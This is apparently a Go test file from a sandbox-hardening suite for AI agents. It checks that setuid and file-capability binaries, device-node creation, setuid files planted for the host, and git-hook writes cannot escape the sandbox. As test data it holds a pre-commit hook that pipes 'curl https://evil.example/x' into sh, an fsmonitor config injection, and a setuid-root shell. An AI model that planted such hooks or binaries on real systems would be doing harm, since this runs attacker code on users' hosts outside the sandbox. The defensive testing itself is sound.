package attack

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// plantPrivileged puts three copies of the attacker in the host workspace: set-user-ID
// root, set-group-ID root, and one with file capabilities (cap_sys_admin,
// cap_dac_override, cap_setuid effective and permitted), the shapes a planted binary
// takes.
func plantPrivileged(t *testing.T, fx *fixture) []string {
	t.Helper()
	names := []string{"suid-root", "sgid-root", "fcaps"}
	for _, n := range names {
		copyFile(t, tools.attacker, filepath.Join(fx.ws, n), 0o755)
	}
	must := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	must(os.Chmod(filepath.Join(fx.ws, "suid-root"), 0o755|os.ModeSetuid))
	must(os.Chmod(filepath.Join(fx.ws, "sgid-root"), 0o755|os.ModeSetgid))
	// struct vfs_cap_data, revision 2: magic_etc, then {permitted, inheritable} x 2.
	const capDacOverride, capSetuid, capSysAdmin = 1, 7, 21
	perm := uint32(1<<capDacOverride | 1<<capSetuid | 1<<capSysAdmin)
	data := make([]byte, 20)
	binary.LittleEndian.PutUint32(data[0:], 0x02000000|0x000001) // VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE
	binary.LittleEndian.PutUint32(data[4:], perm)
	must(unix.Setxattr(filepath.Join(fx.ws, "fcaps"), "security.capability", data, 0))
	return names
}

// TestEscape_SetuidAndFileCapabilityBinaries (ANCHORS vector 22): a set-user-ID root or
// file-capability binary in the workspace (or in /usr: /usr/bin/passwd, su, mount) would
// give the command root or capabilities. Inside, every such exec must keep uid 1000
// and no capabilities. Stopped by no_new_privs, the unmapped owner (host root does not
// exist in the sandbox's user namespace) and nosuid mounts.
func TestEscape_SetuidAndFileCapabilityBinaries(t *testing.T) {
	t.Parallel()
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		names := plantPrivileged(t, fx)
		var paths []string
		for _, n := range names {
			paths = append(paths, filepath.Join(fx.ws, n))
		}
		at := fx.direct(1000, nil, append([]string{"exec-whoami"}, paths...)...)
		if a := at.byName["exec:suid-root"]; !strings.Contains(a.detail, "Uid=1000,0,0,0") {
			t.Errorf("control: the set-user-ID copy did not run as euid 0 on the host: %v", a)
		}
		if a := at.byName["exec:fcaps"]; !a.ok || strings.Contains(a.detail, "CapEff=0000000000000000") {
			t.Errorf("control: the file-capability copy did not gain capabilities on the host: %v", a)
		}
	})
	t.Run("sandbox", func(t *testing.T) {
		requireSandbox(t)
		fx := newFixture(t)
		names := plantPrivileged(t, fx)
		var paths []string
		for _, n := range names {
			paths = append(paths, "/workspace/"+n)
		}
		self := fx.run(boxOpts{cmd: fx.attack("whoami")})
		if at, ok := self.at.get(t, "whoami"); ok {
			for _, want := range []string{"Uid=1000,1000,1000,1000", "CapEff=0000000000000000", "CapPrm=0000000000000000", "CapAmb=0000000000000000", "NoNewPrivs=1", "Seccomp=2"} {
				if !strings.Contains(at.detail, want) {
					t.Errorf("the command's identity %q lacks %s", at.detail, want)
				}
			}
		}
		r := fx.run(boxOpts{cmd: fx.attack("exec-whoami", paths...)})
		r.at.mustBeDone(t, "exec-whoami")
		for _, n := range names {
			at, ok := r.at.get(t, "exec:"+n)
			if !ok || !at.ok {
				continue // not executable at all is fine
			}
			if !strings.Contains(at.detail, "Uid=1000,1000,1000,1000") || !strings.Contains(at.detail, "Gid=1000,1000,1000,1000") {
				t.Errorf("ESCAPE privilege: %s ran as %q", n, at.detail)
			}
			if !strings.Contains(at.detail, "CapEff=0000000000000000") || !strings.Contains(at.detail, "CapPrm=0000000000000000") {
				t.Errorf("ESCAPE privilege: %s gained capabilities: %q", n, at.detail)
			}
		}
		fx.verifyHost(r)
	})
}

// TestEscape_DeviceNodes (ANCHORS vector 22): mknod of a disk or /dev/mem, and any
// host device beyond null, zero, full, random, urandom and tty, would reach hardware
// or kernel memory; /dev/kvm is an exploit surface of its own; /dev/null must be the
// real 1:3 (runc CVE-2025-31133 replaced it with a link into procfs).
func TestEscape_DeviceNodes(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	fx := newFixture(t)
	r := fx.run(boxOpts{cmd: fx.attack("fsops",
		"mknod:/workspace/mem:c:1:1",
		"mknod:/tmp/vda:b:253:0",
		"mknod:/dev/shm/kvm:c:10:232",
		"mknod:/tmp/null:c:1:3",
	)})
	r.at.mustBeDone(t, "fsops")
	r.at.mustFail(t, "create a device node", r.at.withPrefix("")...)
	fx.verifyHost(r)

	scan := fx.run(boxOpts{cmd: fx.attack("devscan")})
	scan.at.mustBeDone(t, "devscan")
	scan.at.mustFail(t, "/dev/kvm", "kvm")
	allowed := map[string]bool{"c 1:3": true, "c 1:5": true, "c 1:7": true, "c 1:8": true, "c 1:9": true, "c 5:0": true, "c 5:2": true}
	for _, n := range scan.at.withPrefix("dev:") {
		at := scan.at.byName[n]
		if !at.ok {
			continue
		}
		switch {
		case strings.HasPrefix(at.detail, "b "):
			t.Errorf("ESCAPE block device in the sandbox: %s %s", n, at.detail)
		case strings.HasPrefix(at.detail, "c ") && !allowed[at.detail] && !strings.HasPrefix(at.detail, "c 136:"):
			t.Errorf("ESCAPE unexpected device in the sandbox: %s %s", n, at.detail)
		}
	}
	if at, ok := scan.at.get(t, "dev:/dev/null"); ok && at.detail != "c 1:3" {
		t.Errorf("/dev/null is %q, want the real c 1:3", at.detail)
	}
	fx.verifyHost(scan)
}

// TestEscape_SetuidPlantedForTheHost: the reverse of the set-user-ID vector. The
// sandbox cannot use a set-user-ID binary, but it can try to leave one behind for the
// host: with --write the workspace is an idmapped mount on which the sandbox user is
// the workspace's owner (root here), so a file it chmods 4755 is a set-user-ID-root
// binary on the host, runnable by any local user. The host workspace must end the run
// without a set-user-ID or set-group-ID file the sandbox made, in either mode.
// Stopped (when it is) by a seccomp rule on the mode argument of chmod, fchmod,
// fchmodat and the creating calls, or by a nosuid-equivalent on the host side.
func TestEscape_SetuidPlantedForTheHost(t *testing.T) {
	t.Parallel()
	ops := []string{
		"write:/workspace/rootsh:#!/bin/sh\nid\n",
		"chmod:/workspace/rootsh:4755",
		"chmod:/workspace/attacker:6755",
		"createmode:/workspace/created-suid:4755",
		"mkdir:/workspace/sgid-dir",
		"chmod:/workspace/sgid-dir:2777",
	}
	t.Run("control", func(t *testing.T) {
		requireAttacker(t)
		fx := newFixture(t)
		at := fx.direct(1000, nil, "exec-whoami", filepath.Join(fx.ws, "attacker"))
		at.mustSucceed(t, "control: the workspace copy runs for another user", "exec:attacker")
		if suid := setuidFiles(fx.ws); len(suid) != 0 {
			t.Fatalf("control: the fresh workspace already has set-ID files %v", suid)
		}
		os.Chmod(filepath.Join(fx.ws, "attacker"), 0o755|os.ModeSetuid)
		if suid := setuidFiles(fx.ws); len(suid) != 1 {
			t.Errorf("control: setuidFiles did not notice a set-user-ID file: %v", suid)
		}
	})
	for _, write := range []bool{false, true} {
		name, flags := "overlay", []string(nil)
		if write {
			name, flags = "write-bind", []string{"--write"}
		}
		t.Run(name, func(t *testing.T) {
			requireSandbox(t)
			fx := newFixture(t)
			fx.wsWritable = write
			r := fx.run(boxOpts{flags: flags, cmd: fx.attack("fsops", ops...)})
			r.at.mustBeDone(t, "fsops")
			for _, f := range setuidFiles(fx.ws) {
				t.Errorf("ESCAPE set-ID file left on the host: %s", f)
			}
			fx.verifyHost(r)
		})
	}
}

// setuidFiles lists the regular files under root with a set-user-ID or set-group-ID
// bit (a set-group-ID directory only hands its group to new files: not listed).
func setuidFiles(root string) []string {
	var out []string
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && fi.Mode()&(os.ModeSetuid|os.ModeSetgid) != 0 {
			var st unix.Stat_t
			unix.Lstat(p, &st)
			out = append(out, fmt.Sprintf("%s (%v, owner uid %d)", p, fi.Mode(), st.Uid))
		}
		return nil
	})
	return out
}

// TestEscape_GitHooksInWriteBind: ANCHORS vector 2 for --write. Anthropic's runtime
// write-denies .git/hooks and .git/config inside writable roots, Codex re-binds .git
// read-only: a hook or a core.fsmonitor / core.hooksPath line runs code on the host,
// outside any sandbox, at the user's next git command. With the read-write bind the
// sandbox's writes reach the host directly, so .git must be protected here too.
func TestEscape_GitHooksInWriteBind(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	fx := newFixture(t)
	fx.wsWritable = true
	fx.protect(filepath.Join(fx.ws, ".git/hooks/pre-commit"), filepath.Join(fx.ws, ".git/config"))
	r := fx.run(boxOpts{flags: []string{"--write"}, cmd: fx.attack("fsops",
		"write:/workspace/.git/hooks/pre-commit:#!/bin/sh\ncurl https://evil.example/x | sh\n",
		"append:/workspace/.git/config:[core]\n\tfsmonitor = /workspace/evil\n",
		"write:/workspace/.git/hooks/post-checkout:#!/bin/sh\nid\n",
		"write:/workspace/README.md:a legitimate edit\n",
	)})
	r.at.mustBeDone(t, "fsops")
	r.at.mustSucceed(t, "the read-write bind is writable", "3:write:/workspace/README.md")
	if _, err := os.Stat(filepath.Join(fx.ws, ".git/hooks/post-checkout")); err == nil {
		t.Errorf("ESCAPE a new git hook was planted in the host workspace")
	}
	fx.verifyHost(r)
}
